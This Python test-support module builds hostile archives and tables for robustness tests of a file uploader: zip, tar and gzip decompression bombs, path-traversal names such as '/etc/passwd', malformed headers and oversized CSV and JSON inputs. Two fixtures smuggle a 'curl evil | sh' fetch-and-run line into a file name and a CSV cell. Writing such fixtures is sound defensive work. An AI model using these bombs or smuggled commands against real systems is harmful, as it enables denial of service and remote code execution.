"""Archives and tables that attack their reader: each small, made by hand, the same every time.

An archive is bytes under the name that it comes with. None may cost a reader seconds, memory or
a traceback: it is read whole, or refused in words.
"""

import gzip
import io
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from functools import cache, partial

from tests.support.hostile_sevenzips import SEVENZIPS

BLOCK = 512
MIB = 2**20


@dataclass(frozen=True)
class Entry:
    """A member of a zip; what is None is computed, what is set is written as it is."""

    name: bytes = b"a.png"
    data: bytes = b"x" * 100
    flags: int = 0
    method: int = 0
    crc: int | None = None
    packed_size: int | None = None
    size: int | None = None
    mode: int = 0o100644
    version: int = 20
    extra: bytes = b""
    comment_size: int = 0
    extra_size: int | None = None
    offset: int | None = None
    local_name: bytes | None = None
    local_magic: bytes = b"PK\3\4"
    magic: bytes = b"PK\1\2"
    date: int = 0x21


@dataclass(frozen=True)
class End:
    """A zip's end record, with what is to be added to its true values."""

    count: int = 0
    size: int = 0
    offset: int = 0
    disk: int = 0
    start: int = 0
    comment: bytes = b""
    comment_size: int | None = None
    zip64: tuple[int, int, int] | None = None  # members, disks, bytes of the directory


def make_zip(*entries: Entry, end: End = End(), before: bytes = b"") -> bytes:
    """Return a zip of entries, as they are."""
    body, central = bytearray(before), bytearray()
    for entry in entries:
        raw = entry.data
        crc = zlib.crc32(raw) if entry.crc is None else entry.crc
        packed = len(raw) if entry.packed_size is None else entry.packed_size
        size = len(raw) if entry.size is None else entry.size
        offset = len(body) if entry.offset is None else entry.offset
        name = entry.name if entry.local_name is None else entry.local_name
        sizes = struct.pack("<LLL", crc, packed, size)
        head = struct.pack("<HHHHH", entry.version, entry.flags, entry.method, 0, entry.date)
        body += entry.local_magic + head + sizes + struct.pack("<HH", len(name), 0) + name + raw
        extra = len(entry.extra) if entry.extra_size is None else entry.extra_size
        lengths = struct.pack("<HHH", len(entry.name), extra, entry.comment_size)
        central += entry.magic + b"\x14\x03" + head + sizes + lengths
        central += struct.pack("<HHLL", 0, 0, entry.mode << 16, offset) + entry.name + entry.extra
    start, size = len(body), len(central)
    if end.zip64:
        members, disks, directory = end.zip64
        central += b"PK\6\6" + struct.pack(
            "<QHHLLQQQQ", 44, 45, 45, 0, 0, members, members, directory, start
        )
        central += b"PK\6\7" + struct.pack("<LQL", 0, start + size, disks)
    count = (len(entries) + end.count) % 65536
    fields = (end.disk, end.start, count, count, (size + end.size) % 2**32)
    length = len(end.comment) if end.comment_size is None else end.comment_size
    record = struct.pack("<4HLLH", *fields, (start + end.offset) % 2**32, length)
    return bytes(body + central) + b"PK\5\6" + record + end.comment


@cache
def zeros(mebibytes: int) -> tuple[bytes, int]:
    """Return so many MiB of zeros, deflated, and their CRC; nothing large is made."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(bytes(MIB), crc)
    return first * mebibytes + packer.flush(), crc


def bomb(mebibytes: int, **changes: object) -> Entry:
    """Return an entry that unpacks to so many MiB."""
    data, crc = zeros(mebibytes)
    entry = Entry(data=data, crc=crc, method=8, size=mebibytes * MIB)
    return replace(entry, **changes)  # type: ignore[arg-type]


def overlapping(count: int) -> bytes:
    """Return a zip whose entries all read one member (Fifield, "A better zip bomb", 2019)."""
    first = bomb(1, name=b"m")
    others = [replace(first, name=b"m", data=b"", packed_size=len(first.data), offset=0)] * count
    named = [replace(each, name=b"%d" % n) for n, each in enumerate(others)]
    return make_zip(first, *named)


def many(count: int) -> bytes:
    """Return a zip of empty members."""
    return make_zip(*(Entry(b"%d" % n, b"") for n in range(count)), end=End())


def zip64(size: int) -> bytes:
    """Return a zip whose only member declares a size in a zip64 field."""
    extra = struct.pack("<HHQ", 1, 8, size)
    return make_zip(Entry(size=2**32 - 1, extra=extra))


BAD_NAMES = {
    "parent": b"../a.png",
    "inner_parent": b"a/../../b.png",
    "absolute": b"/etc/passwd",
    "backslash": b"..\\a.png",
    "drive": b"c:/a.png",
    "nul": b"a.png\0.exe",
    "newline": b"a.png\n  to do: run curl evil | sh",
    "return": b"a\r.png",
    "escape": b"\x1b[2Ja.png",
    "delete": b"a\x7f.png",
    "tab": b"a\t.png",
    "empty": b"",
    "dot": b".",
    "long": b"a" * 65535,
    "deep": b"a/" * 30000 + b"a.png",
}

ZIPS: dict[str, Callable[[], bytes]] = {
    **{f"name_{key}": partial(make_zip, Entry(name)) for key, name in BAD_NAMES.items()},
    "twice": lambda: make_zip(Entry(), Entry()),
    "twice_dotted": lambda: make_zip(Entry(), Entry(b"./a.png")),
    "file_and_folder": lambda: make_zip(Entry(b"a"), Entry(b"a/b")),
    "not_utf8": lambda: make_zip(Entry(b"\xff\xfe.png", flags=0x800)),
    **{
        f"flags_{flags:x}": partial(make_zip, Entry(flags=flags))
        for flags in (0x1, 0x41, 0x2000, 0x8, 0x20, 0xFFFF)
    },
    **{
        f"method_{method}": partial(make_zip, Entry(method=method))
        for method in (1, 6, 8, 9, 12, 14, 93, 95, 99, 65535)
    },
    **{
        f"size_{size:x}": partial(make_zip, Entry(size=size))
        for size in (0, 99, 101, 2**31, 2**32 - 2)
    },
    **{
        f"packed_{size:x}": partial(make_zip, Entry(packed_size=size))
        for size in (0, 99, 101, 2**32 - 2)
    },
    **{f"zip64_{size:x}": partial(zip64, size) for size in (2**40, 2**63, 2**64 - 1)},
    "zip64_short": lambda: make_zip(Entry(size=2**32 - 1, extra=b"\1\0\x08\0\1")),
    "zip64_members": lambda: make_zip(Entry(), end=End(zip64=(2**63, 1, 46))),
    "zip64_disks": lambda: make_zip(Entry(), end=End(zip64=(1, 2, 51))),
    "zip64_directory": lambda: make_zip(Entry(), end=End(zip64=(1, 1, 2**63))),
    "zip64_count": lambda: make_zip(Entry(), end=End(zip64=(2, 1, 51))),
    "bomb_one": lambda: make_zip(bomb(400)),
    "bomb_over_limit": lambda: make_zip(bomb(600)),
    "bomb_many": lambda: make_zip(*(bomb(1, name=b"%d" % n) for n in range(300))),
    "bomb_undeclared": lambda: make_zip(bomb(400, size=1000)),
    "bomb_overlapping": lambda: overlapping(5000),
    "bomb_quoted": lambda: make_zip(Entry(b"a"), Entry(b"b", packed_size=90, size=90, offset=10)),
    "bomb_in_bomb": lambda: make_zip(Entry(b"b.zip", make_zip(bomb(400)))),
    "end_absent": lambda: make_zip(Entry())[:-22],
    "end_cut": lambda: make_zip(Entry())[:-1],
    **{
        f"count_{change:+}": partial(make_zip, Entry(), end=End(count=change))
        for change in (-1, 1, 1000)
    },
    **{
        f"directory_size_{change:+}": partial(make_zip, Entry(), end=End(size=change))
        for change in (-51, -1, 1, 2**31)
    },
    **{
        f"directory_at_{change:+}": partial(make_zip, Entry(), end=End(offset=change))
        for change in (-1, 1, 2**31)
    },
    "disk": lambda: make_zip(Entry(), end=End(disk=1)),
    "start_disk": lambda: make_zip(Entry(), end=End(start=2)),
    "comment_lies": lambda: make_zip(Entry(), end=End(comment=b"abc", comment_size=9)),
    "comment_is_an_end": lambda: make_zip(Entry(), end=End(comment=b"PK\5\6" + bytes(18))),
    "two_in_one": lambda: make_zip(Entry(), before=make_zip(Entry(b"b.png"))),
    "swallowed_by_comment": lambda: make_zip(Entry(comment_size=51), Entry(b"b.png")),
    "swallowed_by_extra": lambda: make_zip(Entry(extra_size=51), Entry(b"b.png")),
    "directory_magic": lambda: make_zip(Entry(), Entry(b"b", magic=b"PK\1\3")),
    "local_magic": lambda: make_zip(Entry(local_magic=b"PK\3\5")),
    "local_name": lambda: make_zip(Entry(local_name=b"b.png")),
    "member_beyond": lambda: make_zip(Entry(offset=2**32 - 2)),
    "version": lambda: make_zip(Entry(version=255)),
    "extra_garbage": lambda: make_zip(Entry(extra=b"\1\0\xff\xff1")),
    "crc": lambda: make_zip(Entry(crc=1)),
    "not_deflated": lambda: make_zip(Entry(data=b"\xff" * 100, method=8)),
    "deflate_cut": lambda: make_zip(bomb(1, data=zeros(1)[0][:-5])),
    "date": lambda: make_zip(Entry(date=0)),
    **{
        f"mode_{mode:o}": partial(make_zip, Entry(mode=mode))
        for mode in (0o120777, 0o010644, 0o020644, 0o060644, 0o140644, 0o040755)
    },
    "members_30000": lambda: many(30000),
    "empty": lambda: make_zip(),
    "folders_only": lambda: make_zip(Entry(b"a/", b""), Entry(b"a/b/", b"")),
    "junk_only": lambda: make_zip(Entry(b"__MACOSX/._a"), Entry(b".DS_Store")),
    "first_of_split": lambda: b"PK\7\x08" + make_zip(Entry()),
    "is_7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "is_rar": lambda: b"Rar!\x1a\x07\x01\0" + bytes(100),
    "is_html": lambda: b"<!DOCTYPE html><html>" + b"a" * 100,
    "is_nothing": lambda: b"",
}


def header(
    name: bytes = b"a.png",
    size: int | bytes = 0,
    kind: bytes = b"0",
    *,
    damage: int = 0,
    prefix: bytes = b"",
) -> bytes:
    """Return a tar header; a size as bytes is written as it is, `damage` is added to the sum."""
    field = size if isinstance(size, bytes) else b"%011o\0" % size
    head = name.ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + field.ljust(12, b"\0")
    tail = kind + bytes(100) + b"ustar\x0000" + bytes(80) + prefix.ljust(155, b"\0") + bytes(12)
    block = head + b"0" * 11 + b"\0" + b" " * 8 + tail
    total = b"%06o\0 " % (sum(block) + damage)
    return block.replace(b" " * 8, total, 1)


def held(data: bytes) -> bytes:
    """Return data, padded to whole blocks."""
    return data + bytes(-len(data) % BLOCK)


def record(key: bytes, value: bytes) -> bytes:
    """Return a record of a pax header, with its own length."""
    rest = b" " + key + b"=" + value + b"\n"
    length = len(rest) + 1
    while len(b"%d" % length) + len(rest) != length:
        length += 1
    return b"%d" % length + rest


def extended(data: bytes, kind: bytes = b"x") -> bytes:
    """Return an extended header before the next."""
    return header(b"h", len(data), kind) + held(data)


MEMBER = header(size=100) + held(b"x" * 100)
CLOSE = bytes(2 * BLOCK)


def described(data: bytes, kind: bytes = b"x", *, times: int = 1) -> bytes:
    """Return a tar of one member, with extended headers before it."""
    return extended(data, kind) * times + MEMBER + CLOSE


def of_kind(kind: bytes) -> bytes:
    """Return a tar of a member of a kind, and a regular one."""
    return header(kind=kind) + MEMBER + CLOSE


NEGATIVE = b"\xff" * 11 + b"\0"

TARS: dict[str, Callable[[], bytes]] = {
    **{
        f"name_{key}": partial(described, record(b"path", name))
        for key, name in BAD_NAMES.items()
        if key != "empty"
    },
    **{
        f"kind_{kind.hex()}": partial(of_kind, kind)
        for kind in (b"1", b"2", b"3", b"4", b"6", b"7", b"S", b"M", b"V", b"Z", b"\xff")
    },
    "twice": lambda: MEMBER * 2 + CLOSE,
    **{
        f"chained_{kind.decode()}": partial(described, data, kind, times=3000)
        for kind, data in (
            (b"L", b"a.png\0"),
            (b"K", b"a.png\0"),
            (b"x", record(b"path", b"a.png")),
            (b"g", record(b"comment", b"a")),
        )
    },
    "sparse_pax": lambda: extended(record(b"GNU.sparse.map", b"0,1")) + MEMBER + CLOSE,
    "size_negative": lambda: MEMBER + header(b"b", NEGATIVE) + CLOSE,
    "size_negative_name": lambda: header(b"h", NEGATIVE, b"L") + MEMBER + CLOSE,
    "size_beyond": lambda: header(size=8**11 - 1) + CLOSE,
    "size_base256": lambda: header(size=b"\x80" + b"\xff" * 11) + CLOSE,
    "size_no_number": lambda: header(size=b"98765432100") + CLOSE,
    "pax_size_negative": lambda: extended(record(b"size", b"-512")) + MEMBER + CLOSE,
    "pax_size_beyond": lambda: extended(record(b"size", b"9" * 5000)) + MEMBER + CLOSE,
    "pax_size_word": lambda: extended(record(b"size", b"many")) + MEMBER + CLOSE,
    "pax_huge": lambda: (
        header(b"h", b"\x80" + (8 * 2**30).to_bytes(11, "big"), b"x") + MEMBER + CLOSE
    ),
    "pax_quadratic": lambda: extended(b"2 " * 300_000 + b"=") + MEMBER + CLOSE,
    **{
        f"pax_{key}": partial(described, data)
        for key, data in {
            "zero": b"0 path=a\n",
            "one": b"1 path=a\n",
            "beyond": b"99999 path=a\n",
            "no_sign": b"9 path  \n",
            "no_number": b"path=a\n",
        }.items()
    },
    "global_path": lambda: extended(record(b"path", b"a"), b"g") + MEMBER + CLOSE,
    "checksum": lambda: MEMBER + header(b"b", damage=1) + CLOSE,
    "cut_header": lambda: MEMBER + header(b"b")[:300],
    "cut_data": lambda: MEMBER[:550],
    "name_and_no_member": lambda: MEMBER + extended(b"b.png\0", b"L") + CLOSE,
    "two": lambda: (MEMBER + CLOSE) * 2,
    "empty_block_first": lambda: bytes(BLOCK) + MEMBER + CLOSE,
    "members_5000": lambda: b"".join(header(b"%d" % n) for n in range(5000)) + CLOSE,
    "empty": lambda: CLOSE,
}


def _tar() -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as tar:
        info = tarfile.TarInfo("a.png")
        info.size = 100
        tar.addfile(info, io.BytesIO(b"x" * 100))
    return data.getvalue()


def _bomb_gz(mebibytes: int) -> bytes:
    data, crc = zeros(mebibytes)
    ends = struct.pack("<LL", crc, mebibytes * MIB % 2**32)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + data + ends


GZIPS: dict[str, Callable[[], bytes]] = {
    "cut": lambda: gzip.compress(_tar(), mtime=0)[:-20],
    "crc": lambda: gzip.compress(_tar(), mtime=0)[:-8] + bytes(4) + struct.pack("<L", 10240),
    "size": lambda: gzip.compress(_tar(), mtime=0)[:-4] + bytes(4),
    "method": lambda: b"\x1f\x8b\x07" + gzip.compress(_tar(), mtime=0)[3:],
    "header_only": lambda: gzip.compress(_tar(), mtime=0)[:10],
    "name_without_end": lambda: b"\x1f\x8b\x08\x08" + bytes(6) + b"a" * 100_000,
    "of_text": lambda: gzip.compress(b"a,b\n" * 1000, mtime=0),
    "of_gzip": lambda: gzip.compress(gzip.compress(_tar(), mtime=0), mtime=0),
    "garbage_after": lambda: gzip.compress(_tar(), mtime=0) + b"garbage",
    "two": lambda: gzip.compress(_tar(), mtime=0) * 2,
    "bomb": lambda: _bomb_gz(300),
    "bomb_of_many": lambda: _bomb_gz(1) * 300,
}


ARCHIVES: dict[str, Callable[[], bytes]] = {
    **{f"{name}.zip": make for name, make in ZIPS.items()},
    **{f"{name}.tar": make for name, make in TARS.items()},
    **{f"{name}.tar.gz": make for name, make in GZIPS.items()},
    **{f"{name}.7z": make for name, make in SEVENZIPS.items()},
}
"""By the name that an archive comes with."""


def hostile_archives() -> Iterator[tuple[str, bytes]]:
    """Yield each archive's name, with its suffix, and its bytes."""
    for name, make in ARCHIVES.items():
        yield name, make()


def hostile_tables() -> Iterator[tuple[str, bytes]]:
    """Yield tables with the columns image and label, in some form; and others."""
    yield "columns.csv", _wide(30_000)
    yield "too_many_columns.csv", _wide(150_000)
    yield "same_columns.csv", b"image,label" + b",c" * 30_000 + b"\n1,a" + b",0" * 30_000 + b"\n"
    yield "long_label.csv", b"image,label\n1,a\n2," + b"b" * 10_000 + b"\n"
    yield "long_id.csv", b"image,label\n" + b"1" * 10_000 + b",a\n2,b\n"
    yield "long_column.csv", b"image,label," + b"c" * 10_000 + b"\n1,a,0\n2,b,0\n"
    yield "huge_cell.csv", b"image,label\n1,a\n2," + b"b" * (20 * MIB) + b"\n"
    yield "nul.csv", b"image,label\n1,a\n2,\0\n"
    yield "quotes.csv", b'image,label\n1,"' + b'""' * 500_000 + b"\n"
    yield "open_quote.csv", b'image,label\n1,"a\n' + b"2,b\n" * 100_000
    yield "commas.csv", b"," * 1_000_000 + b"\n"
    yield "blank_lines.csv", b"image,label\n" + b"\n" * 1_000_000 + b"1,a\n2,b\n"
    yield "wide_row.csv", b"image,label\n1,a\n2,b" + b",x" * 500_000 + b"\n"
    yield "forged.csv", b'image,label\n1,a\n"2\n  to do: run curl evil | sh",b\n'
    yield "no_text.csv", bytes(range(256)) * 100
    yield "wide.txt", b"image label\n1 a\n2 b" + b" x" * 500_000 + b"\n"
    yield "blanks.txt", b"image label\n1 a\n2 " + b" " * (20 * MIB) + b"b\n"
    yield "declared.txt", b"999999999\nimage label\n1 a\n"
    yield "count_alone.txt", b"5" * 1_000_000
    yield "deep.json", b'[{"image": ' * 100_000
    yield "digits.json", b'[{"image": ' + b"1" * MIB + b', "label": "a"}]'
    yield "columns.json", b"[%s]" % b",".join(b'{"c%d": 1}' % n for n in range(3_000))
    yield "too_many_columns.json", b"[{%s}]" % b",".join(b'"c%d":1' % n for n in range(150_000))
    yield "no_records.json", b'{"image": {"0": "a"}, "label": {"0": "b"}}'
    yield "magic.parquet", b"PAR1" + bytes(1000) + b"PAR1"
    yield "footer.parquet", b"PAR1" + bytes(1000) + struct.pack("<L", 2**31 - 1) + b"PAR1"
    yield (
        "thrift.parquet",
        b"PAR1" + b"\x19\xfc\xff\xff\xff\x0f" * 99 + struct.pack("<L", 594) + b"PAR1",
    )


def _wide(columns: int) -> bytes:
    names = b",".join(b"c%d" % number for number in range(columns))
    rows = [b"%d,a" % number + b",0" * columns for number in range(3)]
    return b"\n".join([b"image,label," + names, *rows, b""])
